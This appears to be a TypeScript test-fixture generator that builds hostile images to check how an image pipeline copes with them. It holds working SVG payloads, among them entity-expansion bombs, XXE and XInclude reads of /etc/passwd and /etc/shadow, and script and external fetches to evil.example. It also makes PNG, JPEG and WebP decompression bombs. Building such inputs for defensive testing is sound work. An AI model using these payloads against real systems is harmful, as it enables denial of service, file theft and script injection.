import { crc32, deflateSync } from 'node:zlib';
import type { Random } from '../../seed/random.ts';
import { type HostileFile, hostileOf } from './pdfs.ts';

/** Pictures that mean harm, made in code: bombs of pixels, and drawings that never end or reach outside. */

type Make = (random: Random) => Buffer | string;

const svg = (inside: string, attributes = 'viewBox="0 0 9 9"', prolog = '') =>
  `${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;
const RECT = '<rect width="9" height="9" fill="#1F2A5A"/>';

/** Elements of which each shows the one before it many times. */
function chain(length: number, link: (n: number) => string, first: string): string {
  return `<defs>${first}${Array.from({ length }, (_, n) => link(n + 1)).join('')}</defs>`;
}

const DRAWINGS: Readonly<Record<string, Make>> = {
  'one long entity, used without end': (random) =>
    svg(
      `<text>${'&a;'.repeat(random.whole(20_000, 400_000))}</text>`,
      'viewBox="0 0 9 9"',
      `<!DOCTYPE svg [<!ENTITY a "${'öä'.repeat(100)}">]>`,
    ),
  'entities of entities': (random) =>
    svg(
      '<text>&a9;</text>',
      'viewBox="0 0 9 9"',
      `<!DOCTYPE svg [<!ENTITY a0 "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(random.whole(5, 20))}">`).join('')}]>`,
    ),
  'an entity from a file': (random) =>
    svg(
      '<text>&a;</text>',
      'viewBox="0 0 9 9"',
      `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/${random.pick(['passwd', 'hostname', 'shadow'])}">]>`,
    ),
  'text without a size of the drawing': (random) =>
    svg(`<text>${'a'.repeat(random.whole(500, 60_000))}</text>`, ''),
  'a megabyte of text': (random) => svg(`<text>${'Wörter '.repeat(random.whole(20_000, 150_000))}</text>`),
  'uses of uses': (random) => {
    const times = random.whole(8, 12);
    return svg(
      `${chain(random.whole(6, 30), (n) => `<g id="g${n}">${`<use xlink:href="#g${n - 1}"/>`.repeat(times)}</g>`, `<g id="g0">${RECT}</g>`)}<use xlink:href="#g${random.whole(5, 6)}"/>`,
    );
  },
  'a use of itself': (random) => svg(`<g id="a">${'<use href="#a"/>'.repeat(random.whole(1, 50))}</g>`),
  'patterns in patterns': (random) => {
    const length = random.whole(4, 30);
    const size = random.pick(['0.1', '0.01', '0.3', '1']);
    return svg(
      `${chain(length, (n) => `<pattern id="p${n}" width="${size}" height="${size}" patternUnits="userSpaceOnUse"><rect width="9" height="9" fill="url(#p${n - 1})"/></pattern>`, `<pattern id="p0" width="1" height="1" patternUnits="userSpaceOnUse">${RECT}</pattern>`)}<rect width="9" height="9" fill="url(#p${length})"/>`,
    );
  },
  'masks in masks': (random) => {
    const length = random.whole(5, 200);
    return svg(
      `${chain(length, (n) => `<mask id="m${n}"><rect width="9" height="9" fill="#fff" mask="url(#m${n - 1})"/></mask>`, `<mask id="m0">${RECT}</mask>`)}<rect width="9" height="9" mask="url(#m${length})"/>`,
    );
  },
  'filters over a wide plain': (random) =>
    svg(
      `<filter id="f" x="-500%" y="-500%" width="9000%" height="9000%">${'<feGaussianBlur stdDeviation="90"/><feMorphology operator="dilate" radius="500"/><feTurbulence baseFrequency="0.5" numOctaves="99"/>'.repeat(random.whole(1, 60))}</filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
  'a filter of many thousand steps': (random) =>
    svg(
      `<filter id="f">${'<feConvolveMatrix order="9" kernelMatrix="1"/><feComponentTransfer/>'.repeat(random.whole(100, 9000))}</filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
  'groups in groups': (random) => {
    const deep = random.whole(300, 100_000);
    return svg(`${'<g>'.repeat(deep)}${RECT}${'</g>'.repeat(deep)}`);
  },
  'groups that each need a layer': (random) => {
    const deep = random.whole(50, 900);
    return svg(`${'<g opacity="0.9">'.repeat(deep)}${RECT}${'</g>'.repeat(deep)}`);
  },
  'words in words': (random) => {
    const deep = random.whole(300, 40_000);
    return svg(`<text>${'<tspan>'.repeat(deep)}a${'</tspan>'.repeat(deep)}</text>`);
  },
  'a drawing of a kilometre': (random) =>
    svg(RECT, `width="${random.whole(1, 9)}e${random.whole(5, 30)}" height="1e9"`),
  'a drawing of nothing': (random) =>
    svg(
      RECT,
      random.pick([
        'width="0" height="0"',
        'width="-5" height="9"',
        'viewBox="0 0 0 0"',
        'viewBox="NaN a b c"',
        'width="1e-30" height="9"',
      ]),
    ),
  'a path of millions of points': (random) =>
    svg(`<path d="${'M0 0L9 9'.repeat(random.whole(10_000, 900_000))}" stroke="red" stroke-width="3"/>`),
  'dashes finer than anything': (random) =>
    svg(
      `<path d="M0 0H1e${random.whole(3, 9)}" stroke="red" stroke-dasharray="0.${'0'.repeat(random.whole(1, 9))}1"/>`,
    ),
  'markers on every point': (random) =>
    svg(
      `<marker id="m">${RECT}</marker><path marker-mid="url(#m)" d="M0 0${'L9 9'.repeat(random.whole(1000, 200_000))}"/>`,
    ),
  'rules of style without end': (random) =>
    svg(
      `<style>${`${'a '.repeat(random.whole(10, 400))}{fill:red}`.repeat(random.whole(10, 400))}</style>${'<a>'.repeat(500)}${RECT}${'</a>'.repeat(500)}`,
    ),
  'attributes without end': (random) =>
    svg(`<rect ${Array.from({ length: random.whole(1000, 100_000) }, (_, n) => `a${n}="1"`).join(' ')}/>`),
  'a script and a page': (random) =>
    svg(
      `${RECT}<script>fetch('https://evil.example/${random.whole(0, 99)}')</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>`,
      'viewBox="0 0 9 9" onload="alert(1)"',
    ),
  'pictures from elsewhere': (random) =>
    svg(
      `${RECT}<image href="${random.pick(['https://evil.example/x.png', 'file:///etc/passwd', 'file:///dev/zero', '//evil.example/x', 'data:text/html,<script>alert(1)</script>'])}" width="9" height="9"/><use href="https://evil.example/x.svg#a"/>`,
    ),
  'a bomb inside a drawing': (random) => {
    const side = random.whole(4000, 20_000);
    return svg(
      `<image width="9" height="9" href="data:image/png;base64,${png(side, side).toString('base64')}"/>`,
    );
  },
  'a drawing inside itself': (random) => {
    let inner = svg(RECT);
    for (let n = random.whole(2, 9); n > 0; n -= 1) {
      inner = svg(
        `<image width="9" height="9" href="data:image/svg+xml;base64,${Buffer.from(inner).toString('base64')}"/>`.repeat(
          2,
        ),
      );
    }
    return inner;
  },
  'included from elsewhere': (random) =>
    svg(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/${random.pick(['passwd', 'hosts'])}"/>${RECT}`,
    ),
  'half a drawing': (random) => svg(RECT).slice(0, random.whole(20, 120)),
  'drawings by chance': (random) =>
    svg(
      Array.from({ length: random.whole(10, 3000) }, () => String.fromCharCode(random.whole(32, 900))).join(
        '',
      ),
    ),
};

const RASTERS: Readonly<Record<string, Make>> = {
  'a PNG of many megapixels': (random) => png(random.whole(5001, 30_000), random.whole(5001, 30_000)),
  'a PNG of two billion pixels, by its head': (random) =>
    png(random.whole(40_000, 2_000_000), random.whole(40_000, 2_000_000), { rows: 9 }),
  'an interlaced PNG of 16 bits': (random) => {
    const side = random.whole(3000, 7070);
    return png(side, side, { depth: 16, interlaced: true });
  },
  'a PNG one pixel high': (random) => png(random.whole(1_000_000, 20_000_000), 1),
  'a PNG one pixel wide': (random) => png(1, random.whole(1_000_000, 20_000_000)),
  'a PNG whose text unpacks to a lot': (random) =>
    png(9, 9, {
      extra: chunk(
        'zTXt',
        Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(random.whole(10, 200) * 1024 * 1024))]),
      ),
    }),
  'a PNG whose colours unpack to a lot': (random) =>
    png(9, 9, {
      extra: chunk(
        'iCCP',
        Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(random.whole(10, 200) * 1024 * 1024))]),
      ),
    }),
  'a PNG of very many chunks': (random) =>
    png(9, 9, {
      extra: Buffer.concat(
        Array.from({ length: random.whole(1000, 300_000) }, () => chunk('tEXt', Buffer.from('a\0b'))),
      ),
    }),
  'half a PNG': (random) => png(600, 600).subarray(0, random.whole(40, 300)),
  'a PNG with some bytes changed': (random) => {
    const bytes = png(300, 300);
    for (let n = random.whole(1, 20); n > 0; n -= 1)
      bytes[random.whole(8, bytes.length - 1)] = random.whole(0, 255);
    return bytes;
  },
  'a JPEG of its head only': (random) =>
    Buffer.concat([
      Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
      jpegFrame(random.whole(1000, 65_535), random.whole(1000, 65_535), random.chance(0.5)),
    ]),
  'a JPEG of very many scans': (random) =>
    Buffer.concat([
      Buffer.from('ffd8', 'hex'),
      jpegFrame(5000, 5000, true),
      ...Array.from({ length: random.whole(100, 60_000) }, () =>
        Buffer.from('ffda0008010100003f0000', 'hex'),
      ),
      Buffer.from('ffd9', 'hex'),
    ]),
  'a JPEG by chance': (random) =>
    Buffer.concat([
      Buffer.from('ffd8ff', 'hex'),
      Buffer.from(Array.from({ length: random.whole(10, 9000) }, () => random.whole(0, 255))),
    ]),
  'a WebP of its head only': (random) =>
    webp(random.whole(1, 16_383), random.whole(1, 16_383), random.pick(['VP8X', 'VP8L'])),
  'a WebP by chance': (random) =>
    Buffer.concat([
      webp(64, 64, 'VP8L').subarray(0, 25),
      Buffer.from(Array.from({ length: random.whole(10, 9000) }, () => random.whole(0, 255))),
    ]),
  'another kind under a name of ours': (random) =>
    Buffer.concat([
      random.pick([
        Buffer.from('GIF89a'),
        Buffer.from('II*\0'),
        Buffer.from('\0\0\0 ftypheic'),
        Buffer.from('%PDF-1.7'),
        Buffer.from('8BPS'),
        Buffer.from('BM'),
      ]),
      Buffer.alloc(random.whole(10, 5000), 65),
    ]),
};

const KINDS = { ...DRAWINGS, ...RASTERS };

/** The hostile picture of that number: the kinds in turn, each time another one. */
export function hostilePicture(number: number, random: Random): HostileFile {
  return hostileOf(KINDS, number, random);
}

interface PngOptions {
  readonly depth?: 8 | 16;
  readonly interlaced?: boolean;
  /** How many rows of pixels really come. Default: all. */
  readonly rows?: number;
  /** Chunks after the head. */
  readonly extra?: Buffer;
}

/** A PNG in grey of one value; as small as it can be packed (PNG, third edition, §11.2). */
export function png(width: number, height: number, options: PngOptions = {}): Buffer {
  const { depth = 8, interlaced = false, extra = Buffer.alloc(0) } = options;
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([depth, 6, 0, 0, interlaced ? 1 : 0], 8);
  // Of an interlaced one the passes together have as many pixels; a little more does no harm.
  const bytes =
    Math.min((options.rows ?? height) * (width * 4 * (depth / 8) + 1), 400_000_000) +
    (interlaced ? 7 * height : 0);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    extra,
    chunk('IDAT', deflateSync(Buffer.alloc(bytes), { level: 3 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** The head of a frame with three components; progressive or not (ITU T.81, B.2.2). */
function jpegFrame(width: number, height: number, isProgressive: boolean): Buffer {
  const frame = Buffer.from('ffc000110800000000030111000211000311 00'.replace(' ', ''), 'hex');
  if (isProgressive) frame[1] = 0xc2;
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return frame;
}

/** A WebP that says it is so large and holds nothing (RFC 9649 §2). */
function webp(width: number, height: number, kind: 'VP8X' | 'VP8L'): Buffer {
  const bytes = Buffer.alloc(64);
  bytes.write('RIFF', 0, 'latin1');
  bytes.writeUInt32LE(56, 4);
  bytes.write(`WEBP${kind}`, 8, 'latin1');
  bytes.writeUInt32LE(kind === 'VP8X' ? 10 : 44, 16);
  if (kind === 'VP8X') {
    bytes.writeUIntLE(width - 1, 24, 3);
    bytes.writeUIntLE(height - 1, 27, 3);
  } else {
    bytes[20] = 0x2f;
    bytes.writeUInt32LE(((width - 1) | ((height - 1) << 14)) >>> 0, 21);
  }
  return bytes;
}
